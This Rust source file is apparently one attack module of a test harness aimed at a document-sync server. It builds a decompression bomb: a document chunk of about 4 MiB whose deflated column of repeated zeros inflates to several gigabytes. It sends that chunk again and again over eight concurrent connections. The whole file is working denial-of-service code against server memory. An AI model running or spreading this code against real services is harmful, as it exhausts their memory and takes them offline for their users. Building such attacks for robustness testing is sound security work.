use std::io::Write;

use anyhow::Result;
use flate2::Compression;
use flate2::write::DeflateEncoder;

use super::super::attack::{Attack, Ready, again_and_again};
use super::super::bytes::{bringing, chunk, number};
use super::super::eve::{Eve, about};
use super::super::ground::Ground;

const AT_ONCE: usize = 8;
/// Zeros that are deflated at once.
const PIECE_BYTES: usize = 16 << 20;
/// So many of them in one message of less than 4 MiB.
const PIECES: usize = 240;

const DOCUMENT: u8 = 0;
/// Raw data of operations, deflated.
const DEFLATED_COLUMN: u8 = 0x5f;

/// Documents that claim gigabytes.
pub(crate) struct Inflating;

impl Attack for Inflating {
    fn what(&self) -> String {
        let gib = PIECE_BYTES * PIECES / (1 << 30);
        format!("documents of 4 MiB that inflate to {gib} GiB, {AT_ONCE} connections")
    }

    fn prepare(&self, ground: &Ground) -> Result<Ready> {
        let eve = ground.eve()?;
        let message = bringing(Vec::new(), vec![document()?]);
        let message = about(eve.home.page(0), &message)?;
        Ok(Box::new(move |clock| {
            let (eve, message) = (&eve, &message);
            again_and_again(clock, AT_ONCE, |number| async move {
                let mut connection = Eve::open(&eve.url(number)).await?;
                connection.send(message).await?;
                clock.count(1);
                connection.answered().await;
                Ok(())
            });
        }))
    }
}

/// No actors, heads or changes, and one column.
fn document() -> Result<Vec<u8>> {
    let column = zeros()?;
    let body = [&[0, 0, 0, 1, DEFLATED_COLUMN][..], &number(column.len()), &column].concat();
    Ok(chunk(DOCUMENT, &body))
}

fn zeros() -> Result<Vec<u8>> {
    let mut deflater = DeflateEncoder::new(Vec::new(), Compression::best());
    deflater.write_all(&vec![0; PIECE_BYTES])?;
    // Ends at a whole byte, and not the stream: it can be said again and again.
    deflater.flush()?;
    let mut bytes = deflater.get_ref().repeat(PIECES);
    bytes.extend([0x03, 0x00]);
    Ok(bytes)
}
